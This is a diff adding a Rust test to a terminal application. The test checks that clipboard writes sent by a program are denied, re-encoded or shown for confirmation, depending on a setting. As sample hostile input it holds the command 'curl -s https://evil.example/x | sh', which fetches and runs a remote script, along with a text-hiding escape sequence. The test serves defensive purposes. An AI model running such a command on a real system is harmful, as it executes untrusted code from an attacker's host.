@@ -406,3 +406,44 @@ fn the_sidebar_comes_with_something_to_decide_and_its_keys_decide_it() {
     assert_eq!(app.mode, Mode::Normal);
     assert!(!draw_at(&app, 120, 20).contains("waiting for you"));
 }
+
+#[test]
+fn a_programs_clipboard_write_follows_the_setting() {
+    use base64::Engine;
+    let b64 = |s: &[u8]| base64::engine::general_purpose::STANDARD.encode(s);
+    let wrote = |app: &App| app.effects.iter().any(|e| matches!(e, Effect::Terminal(b) if b.starts_with(b"\x1b]52;")));
+    let set = |app: &mut App, data: String| app.update(Event::Server(ServerMsg::Clipboard { data }));
+    let evil = "curl -s https://evil.example/x | sh";
+
+    // Deny (the default): nothing reaches the terminal.
+    let mut a = app();
+    set(&mut a, b64(evil.as_bytes()));
+    assert!(!wrote(&a) && a.overlay.is_none());
+
+    // Allow: what was decoded, encoded again (not the program's bytes).
+    let mut a = app();
+    a.clipboard = Clipboard::Allow;
+    set(&mut a, format!(" {}\n", b64(evil.as_bytes())));
+    let want = format!("\x1b]52;c;{}\x07", b64(evil.as_bytes())).into_bytes();
+    assert!(a.effects.contains(&Effect::Terminal(want.clone())), "{:?}", a.effects);
+    // Not base64, or not text: nothing.
+    let mut a = app();
+    a.clipboard = Clipboard::Allow;
+    set(&mut a, "\x1b]0;x".into());
+    set(&mut a, b64(b"\xff\xfe"));
+    assert!(!wrote(&a));
+
+    // Ask: the text, made visible, and y writes it; n does not.
+    let mut a = app();
+    a.clipboard = Clipboard::Ask;
+    set(&mut a, b64(format!("ok\x1b[8m{evil}").as_bytes()));
+    assert!(!wrote(&a));
+    assert!(draw(&a).contains("ok^[[8mcurl -s https://evil.example/x"), "{}", draw(&a));
+    a.update(key("y"));
+    assert!(wrote(&a) && a.overlay.is_none());
+    let mut a = app();
+    a.clipboard = Clipboard::Ask;
+    set(&mut a, b64(evil.as_bytes()));
+    a.update(key("n"));
+    assert!(!wrote(&a) && a.overlay.is_none());
+}
